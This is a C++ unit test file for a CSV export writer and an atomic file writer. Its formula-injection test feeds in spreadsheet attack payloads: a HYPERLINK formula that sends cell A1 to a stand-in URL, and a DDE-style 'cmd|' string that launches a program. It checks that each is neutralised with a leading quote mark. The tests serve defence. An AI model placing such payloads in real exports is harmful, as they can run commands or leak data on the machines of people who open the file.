// SPDX-License-Identifier: MIT
// Copyright (c) 2026 The Standpoint authors
// The one CSV writer: RFC 4180 quoting and OWASP's guard against formulas in exported text.
#include "core/export/atomicfile.h"
#include "core/export/csvwriter.h"
#include "core/text/csvreader.h"
#include "tests/support/testpack.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>

#include <utility>

using namespace standpoint;
using exporting::CsvWriter;
using standpoint::fixtures::succeeded;

namespace {

QString oneRow(const QList<CsvWriter::Cell> &cells)
{
    CsvWriter csv({QStringLiteral("h")});
    csv.addRow(cells);
    return csv.text().mid(QStringLiteral("h\r\n").size());
}

} // namespace

TEST(CsvWriter, QuotesOnlyWhatNeedsItAndEndsRecordsWithCrLf)
{
    EXPECT_EQ(oneRow({QStringLiteral("plain"), QStringLiteral("a,b"), QStringLiteral("say \"no\""),
                      QStringLiteral("two\nlines"), QStringLiteral("cr\rhere"), QString()}),
              QStringLiteral("plain,\"a,b\",\"say \"\"no\"\"\",\"two\nlines\",\"cr\rhere\",\r\n"));
    CsvWriter csv({QStringLiteral("a"), QStringLiteral("b")});
    csv.addRow({QStringLiteral("1"), QStringLiteral("2")});
    EXPECT_EQ(csv.text(), QStringLiteral("a,b\r\n1,2\r\n"));
}

TEST(CsvWriter, EveryDangerousLeadingCharacterIsNeutralised)
{
    const QList<std::pair<QString, QString>> cases = {
        {QStringLiteral("=HYPERLINK(\"http://x\"&A1,\"click\")"),
         QStringLiteral("\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\"")},
        {QStringLiteral("+1+cmd|' /C calc'!A0"), QStringLiteral("'+1+cmd|' /C calc'!A0")},
        {QStringLiteral("-2+3"), QStringLiteral("'-2+3")},
        {QStringLiteral("@SUM(A1:A2)"), QStringLiteral("'@SUM(A1:A2)")},
        {QStringLiteral("\tindented=1"), QStringLiteral("'\tindented=1")},
        {QStringLiteral("\r=1"), QStringLiteral("\"'\r=1\"")},
    };
    for (const auto &[text, expected] : cases)
        EXPECT_EQ(oneRow({text}), expected + QStringLiteral("\r\n")) << text.toStdString();
    // Read back as a spreadsheet would, the cell starts with a quote mark: it is text, not a formula.
    auto table = text::parseCsv(QStringLiteral("h\r\n") + oneRow({cases[0].first}), QStringLiteral("t.csv"));
    ASSERT_TRUE(succeeded(table));
    ASSERT_EQ(table->rows.size(), 1);
    EXPECT_EQ(table->rows[0].fields[0], QLatin1Char('\'') + cases[0].first);
    // Inside the text, the same characters are harmless and kept as they are.
    EXPECT_EQ(oneRow({QStringLiteral("a=b-c+d@e")}), QStringLiteral("a=b-c+d@e\r\n"));
    EXPECT_EQ(oneRow({QStringLiteral(" =1")}), QStringLiteral(" =1\r\n"));
}

TEST(CsvWriter, NumbersTheProgramWritesStayNumbers)
{
    EXPECT_EQ(oneRow({-5, qint64(-9007199254740993LL), -12.5, 146.9, 0.1 + 0.2}),
              QStringLiteral("-5,-9007199254740993,-12.5,146.9,0.3\r\n"));
    // The same characters as text are a user's words, and neutralised.
    EXPECT_EQ(oneRow({QStringLiteral("-5")}), QStringLiteral("'-5\r\n"));
}

TEST(AtomicFile, WritesWholeFilesAndNamesTheFileWhenItCannot)
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("out.csv"));
    ASSERT_TRUE(succeeded(exporting::AtomicFile::write(path, QByteArrayLiteral("old"))));
    // A writer that fails leaves the file that was there untouched.
    const Status failed = exporting::AtomicFile::write(path, [](QIODevice &device) -> Status {
        device.write("half");
        return Error{QStringLiteral("the disk is full")};
    });
    ASSERT_FALSE(failed.ok());
    EXPECT_TRUE(failed.message().contains(QDir::toNativeSeparators(path))) << failed.message().toStdString();
    EXPECT_TRUE(failed.message().contains(QStringLiteral("the disk is full")));
    QFile kept(path);
    ASSERT_TRUE(kept.open(QIODevice::ReadOnly));
    EXPECT_EQ(kept.readAll(), QByteArrayLiteral("old"));
    EXPECT_EQ(QDir(dir.path()).entryList(QDir::Files), QStringList{QStringLiteral("out.csv")});

    const QString nowhere = QStringLiteral("/nonexistent-folder/out.csv");
    const Status unwritable = exporting::AtomicFile::write(nowhere, QByteArrayLiteral("x"));
    ASSERT_FALSE(unwritable.ok());
    EXPECT_TRUE(unwritable.message().contains(nowhere)) << unwritable.message().toStdString();
}
